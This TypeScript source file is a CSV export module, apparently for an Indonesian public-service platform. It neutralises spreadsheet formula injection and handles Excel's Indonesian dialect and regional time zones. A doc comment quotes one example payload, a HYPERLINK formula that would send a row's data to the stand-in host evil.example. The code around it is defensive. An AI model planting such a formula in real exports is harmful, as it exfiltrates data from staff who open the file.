import { type Options, type Stringifier, stringify } from 'csv-stringify';
import { stringify as stringifySync } from 'csv-stringify/sync';
import { z } from 'zod';
import { type TimeZoneName, timeZoneOffsetHours } from '../../../shared/indonesia';

/**
 * The platform's only CSV writer (test/core/architecture.test.ts keeps csv-stringify out of every
 * other file). Exports leave the system and are opened in Excel or LibreOffice, which run a cell
 * that starts with `=`, `+`, `-`, `@`, tab or CR as a formula: a citizen's description
 * `=HYPERLINK("http://evil.example/?d="&B2,"Klik")` would send the row to a stranger when a staff
 * member clicks it (CSV / formula injection, OWASP). Such text cells get a leading `'`, which the
 * spreadsheet shows as plain text.
 *
 * Left alone, on purpose: JavaScript numbers (a coordinate -6.17 is written by the number cast,
 * never by the string one) and strings that are nothing but a decimal number (`-6.17`, `+62`,
 * `1e5`): a spreadsheet reads those as a value, there is no formula in them, and prefixing them
 * would turn coordinates and prices into text. `-1+2` is not a plain number and is neutralised.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

export function neutraliseCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

/**
 * Who opens the file. `standard` (RFC 4180): `,` between cells, `.` in numbers, times in ISO 8601
 * with the region's offset. `excel-id`: Excel or LibreOffice set to Indonesian, which splits cells
 * on `;` and reads `.` as a thousands separator (a coordinate -6.181 became -6181): `;`, a decimal
 * comma, local times Excel reads as dates (`2026-12-04 10:00:00`), and a BOM so UTF-8 names survive.
 */
export const csvDialects = ['standard', 'excel-id'] as const;
export type CsvDialect = (typeof csvDialects)[number];
export const csvDialectQuery = z.object({
  dialect: z
    .enum(csvDialects)
    .default('standard')
    .describe(
      '`excel-id` for Excel/LibreOffice with Indonesian settings: `;` between cells, decimal comma, local times, UTF-8 BOM',
    ),
});

const ISO_UTC = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(?:\.\d+)?Z$/;

/** A UTC instant as the region reads it: ISO 8601 with its offset, or local Excel time. */
export function zonedTime(at: Date, timeZone: TimeZoneName, dialect: CsvDialect = 'standard'): string {
  const hours = timeZoneOffsetHours[timeZone];
  const local = new Date(at.getTime() + hours * 3_600_000).toISOString().slice(0, 19);
  return dialect === 'excel-id' ? local.replace('T', ' ') : `${local}+${String(hours).padStart(2, '0')}:00`;
}

type CsvOptions = Pick<Options, 'header' | 'columns' | 'bom'> & {
  /** Timestamps (Date values, and ISO strings in UTC) are written in this zone, never as `Z`. */
  timeZone: TimeZoneName;
  dialect?: CsvDialect;
};

function withGuard({ timeZone, dialect = 'standard', ...opts }: CsvOptions): Options {
  const excel = dialect === 'excel-id';
  return {
    ...opts,
    bom: excel || opts.bom,
    delimiter: excel ? ';' : ',',
    cast: {
      string: (v) => (ISO_UTC.test(v) ? zonedTime(new Date(v), timeZone, dialect) : neutraliseCell(v)),
      date: (v) => zonedTime(v, timeZone, dialect),
      number: (v) => (excel ? String(v).replace('.', ',') : String(v)),
    },
  };
}

/** A streaming CSV writer (write rows, then end()); hand it to reply.send. */
export function csvStream(opts: CsvOptions): Stringifier {
  return stringify(withGuard(opts));
}

/** Rows to CSV text in one go (small exports). */
export function csvText(rows: readonly unknown[][], opts: CsvOptions): string {
  return stringifySync(rows as unknown[][], withGuard(opts));
}
